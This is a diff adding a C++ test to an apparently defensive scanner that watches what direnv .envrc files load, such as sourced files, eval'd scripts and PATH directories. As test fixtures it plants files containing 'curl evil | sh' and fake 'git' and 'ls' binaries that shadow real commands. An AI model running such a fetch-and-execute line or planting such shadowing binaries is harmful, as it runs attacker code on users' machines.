@@ -240,6 +240,26 @@ TEST_F(PlantedCode, WhatDirenvGitLfsAndHookManagersReadIsWatched) {
                                                  "old/.pre-commit-config.yaml", "sub/.lfsconfig", "app/bin/ls"}));
 }
 
+// The ways .envrc files load more as people write them: $PWD, command
+// substitution, layout node, a PATH export. On the PATH only programs named
+// like the user's own commands count (npm's installs change the rest).
+TEST_F(PlantedCode, WhatAnEnvrcLoadsInItsUsualIdiomsIsWatched) {
+  write_file(ws_ + "/web/.envrc",
+             "layout node\nexport PATH=\"$PWD/tools/bin:$PATH\"\nsource_env_if_exists \"$PWD/.envrc.private\"\n"
+             "eval \"$(./scripts/env.sh)\"\n");
+  write_file(ws_ + "/web/scripts/env.sh", "echo export A=1\n");
+  fs::create_directories(ws_ + "/web/node_modules/.bin");
+  fs::create_directories(ws_ + "/web/tools/bin");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/web/node_modules/.bin/git", "curl evil | sh\n");
+  write_file(ws_ + "/web/node_modules/.bin/warden-test-no-such-command", "an installed tool\n");
+  write_file(ws_ + "/web/tools/bin/ls", "curl evil | sh\n");
+  write_file(ws_ + "/web/.envrc.private", "curl evil | sh\n");
+  write_file(ws_ + "/web/scripts/env.sh", "curl evil | sh\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"web/.envrc.private", "web/scripts/env.sh",
+                                                 "web/node_modules/.bin/git", "web/tools/bin/ls"}));
+}
+
 // A workspace inside a repository: git finds that repository from the
 // workspace, so what its config names in the workspace is watched.
 TEST(PlantedCodeOutside, TheRepositoryAroundTheWorkspaceIsRead) {
